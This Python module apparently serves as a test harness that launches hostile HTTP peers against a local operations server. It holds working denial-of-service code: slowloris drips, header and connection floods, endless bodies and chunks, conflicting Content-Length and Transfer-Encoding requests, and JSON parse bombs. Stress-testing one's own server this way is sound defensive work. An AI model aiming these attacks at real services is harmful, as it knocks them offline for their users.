"""Peers that mean harm, by HTTP. As in hostile.py, an attack goes on until it is cancelled."""

from __future__ import annotations

import asyncio
import json
import random
import sys
from collections.abc import Callable, Iterable, Iterator
from contextlib import suppress
from functools import cache
from itertools import repeat

from support.hostile import Attack, Target, attack_by_name, discard, poured

IDLE_STREAMS = 10_000
IDLE = "idle streams"
_HOST = b"Host: 127.0.0.1\r\n"
_JSON = b"Content-Type: application/json\r\n"
_START = b"POST /v1/producer/operations:start HTTP/1.1\r\n" + _HOST + _JSON
_GET = b"GET /operations/nothing HTTP/1.1\r\n" + _HOST + b"\r\n"
_CHUNKED = b"Transfer-Encoding: chunked\r\n\r\n"
_CONNECTIONS = 300
_PAUSE = 0.5
"""Seconds from one byte of a slow request to the next."""


def _with_length(body: bytes) -> bytes:
    return _START + b"Content-Length: %d\r\n\r\n%s" % (len(body), body)


def _endless(opening: bytes, chunk: bytes) -> Callable[[], Iterable[bytes]]:
    def make() -> Iterator[bytes]:
        yield opening
        yield from repeat(chunk)

    return make


@cache
def _malformed() -> list[bytes]:
    length = b"Content-Length: 5\r\n"
    heads = [
        b"GET / HTTP/1.1\nHost: a\n\n",
        b"GET / HTTP/1.1\r\nHost: a\r\nX: b\r\n c\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost : a\r\n\r\n",
        b"GET / HTTP/1.1\r\n\r\n",
        b"GET http://a/operations/x HTTP/1.1\r\nHost: [\r\n\r\n",
        b"OPTIONS * HTTP/1.1\r\n" + _HOST + b"\r\n",
        b"CONNECT a:443 HTTP/1.1\r\n" + _HOST + b"\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500),
        _START + length + _CHUNKED + b"0\r\n\r\n",
        _START + length + length + b"\r\nhello",
        _START + b"Content-Length: 5, 5\r\n\r\nhello",
        _START + b"Content-Length: 99999999999999999999999\r\n\r\n",
        _START + b"Transfer-Encoding: gzip, chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
        _START + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        _START + _CHUNKED + b"zz\r\n\r\n",
        _START + _CHUNKED + b"ffffffffffffffffff\r\n",
        _START + _CHUNKED + b"1\nx\r\n0\r\n\r\n",
        _START + b"Connection: Upgrade\r\nUpgrade: h2c\r\n" + length + b"\r\nGET /",
        b"GET / HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n" + _HOST + b"\r\n",
        b"GET /v1" + b"/operations/x" * 4_000 + b"/ HTTP/1.1\r\n" + _HOST + b"\r\n",
        b"GET /v1/operationRecords?" + b"page_size=1&" * 3_000 + b" HTTP/1.1\r\n" + _HOST + b"\r\n",
        b"GET /endpoints HTTP/1.1\r\nAccept-Encoding: %s\r\n%s\r\n" % (b"," * 60_000, _HOST),
    ]
    return [*heads, *(head + _GET for head in heads)]


def _jsons() -> list[bytes]:
    """Bodies that cost more to read than to send."""
    many = b",".join([b"{}"] * 90_000)
    return [
        b'{"a":' * 30_000 + b"1" + b"}" * 30_000,
        b"[" * 60_000,
        b'{"metadata":' * 5_000,
        b'{"description":[' + many + b"]}",
        b'{"labels":{' + b",".join(b'"k%d":"v"' % n for n in range(40_000)) + b"}}",
        b'{"lease":' + b"9" * 4_000 + b"}",
        b'{"lease":1e999999}',
        b'{"description":"' + b"\\ud83d\\ude00" * 100_000 + b'"}',
        b'{"metadata":{"@type":"a.com/a.B","value":"' + b"A" * 1_300_000 + b'"}}',
        b'{"metadata":{"@type":"type.googleapis.com/google.protobuf.Struct","value":{"a":['
        + many
        + b"]}}}",
    ]


@cache
def _json_requests() -> list[bytes]:
    return [_with_length(body) for body in _jsons()]


def _compressed() -> Iterator[bytes]:
    zeros = bytes(60_000)
    yield _START + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(zeros) + zeros


def _tiny_chunks() -> Iterator[bytes]:
    for _ in range(10):
        yield _START + _CHUNKED
        yield from repeat(b"1\r\n \r\n" * 1_000, 100)
        yield b"0\r\n\r\n"


async def _drip(target: Target, opening: bytes, drop: bytes) -> None:
    """Many connections, each with a byte now and then."""

    async def one() -> None:
        while True:
            with suppress(OSError):
                reader, writer = await target.connect()
                ended = asyncio.create_task(discard(reader))
                try:
                    writer.write(opening)
                    while not ended.done():
                        await asyncio.wait([ended], timeout=_PAUSE)
                        writer.write(drop)
                        target.done.bytes += len(drop)
                finally:
                    ended.cancel()
                    writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(_CONNECTIONS)))


async def _slowloris(target: Target) -> None:
    await asyncio.gather(
        _drip(target, b"GET / HTTP/1.1\r\nX: ", b"a"),
        _drip(target, b"", b"\r"),
        _drip(target, _START + b"Content-Length: 100000\r\n\r\n", b" "),
        _drip(target, _START + _CHUNKED, b"1\r\n \r\n"),
    )


async def started(target: Target, **fields: object) -> str:
    """The id of a new operation."""
    body = json.dumps(fields).encode()
    reader, writer = await target.connect()
    writer.write(_with_length(body))
    head = await reader.readuntil(b"\r\n\r\n")
    length = int(head.lower().partition(b"content-length: ")[2].split(b"\r\n")[0])
    answer = json.loads(await reader.readexactly(length))
    writer.transport.abort()
    id_: str = answer["operation"]["id"]
    return id_


async def _slow_readers(target: Target) -> None:
    """Ask for much, again and again on each connection, and take nothing."""
    large = {"@type": "a.com/a.B", "value": "A" * 1_000_000}
    id_ = (await started(target, metadata=large, parent="folders/large")).encode()
    paths = [
        b"/operations/%s" % id_,
        b"/v1/operationRecords?parent=-&page_size=1000",
        b"/v1/operationRecords/%s:watch" % id_,
        b"/livez",
    ]
    asked = [b"GET %s HTTP/1.1\r\n%s\r\n" % (path, _HOST) * 16 for path in paths]
    await asyncio.gather(*(target.hold(50, each, reads=False) for each in asked))


async def _half_closed(target: Target) -> None:
    async def one() -> None:
        while True:
            with suppress(OSError):
                reader, writer = await target.connect()
                writer.write(
                    random.choice([_GET, _GET[:20], _START + b"Content-Length: 9\r\n\r\n"])
                )
                target.done.bytes += 20
                writer.write_eof()
                async with asyncio.timeout(2):
                    await discard(reader)
                writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(20)))


async def _idle_streams(target: Target) -> None:
    """Of server-sent events. The server has to allow one caller so many."""
    id_ = (await started(target)).encode()
    watch = b"GET /v1/operationRecords/%s:watch HTTP/1.1\r\n%sAccept: text/event-stream\r\n\r\n"
    await target.hold(IDLE_STREAMS, watch % (id_, _HOST))


async def _flood(target: Target) -> None:
    """Connections that are opened, and ended at once, by far more than anybody needs."""

    async def one() -> None:
        while True:
            with suppress(OSError):
                _, writer = await target.connect()
                target.done.bytes += 1
                writer.transport.abort()

    await asyncio.gather(*(one() for _ in range(100)))


async def _idle_connections(target: Target) -> None:
    await target.hold(10_000, b"G")


async def _lists(target: Target) -> None:
    ask = b"GET /v1/operationRecords?parent=-&page_size=1000 HTTP/1.1\r\n%s\r\n" % _HOST
    await asyncio.gather(*(target.pour(lambda: [ask] * 20) for _ in range(16)))


HTTP_ATTACKS: dict[str, Attack] = {
    "slowloris": _slowloris,
    "header flood": poured(lambda: [b"GET / HTTP/1.1\r\n" + b"a:\r\n" * 16_000] * 4),
    "endless header": poured(_endless(b"GET / HTTP/1.1\r\nX: ", b"a" * 60_000)),
    "endless request line": poured(_endless(b"GET /", b"a" * 60_000)),
    "endless body": poured(_endless(_START + b"Content-Length: 999999999999\r\n\r\n", bytes(60_000))),
    "endless unwanted body": poured(
        _endless(b"GET /livez HTTP/1.1\r\n" + _HOST + b"Content-Length: 999999999999\r\n\r\n",
                 bytes(60_000))
    ),
    "endless chunks": poured(_endless(_START + _CHUNKED, b"ffff\r\n" + bytes(0xFFFF) + b"\r\n")),
    "endless trailers": poured(_endless(_START + _CHUNKED + b"0\r\n", b"X: a\r\n" * 10_000)),
    "tiny chunks": poured(_tiny_chunks),
    "malformed requests": poured(lambda: [random.choice(_malformed())]),
    "pipelining": poured(lambda: [_GET * 10_000]),
    "pipelining, 16 at a time": poured(lambda: repeat(_GET * 16, 200)),
    "hard JSON": poured(lambda: [random.choice(_json_requests())]),
    "compressed bodies": poured(_compressed),
    "half-closed": _half_closed,
    "slow readers": _slow_readers,
    "lists": _lists,
    "connection flood": _flood,
    "idle connections": _idle_connections,
    IDLE: _idle_streams,
}  # fmt: skip


if __name__ == "__main__":
    attack_by_name(HTTP_ATTACKS, *sys.argv[1:])
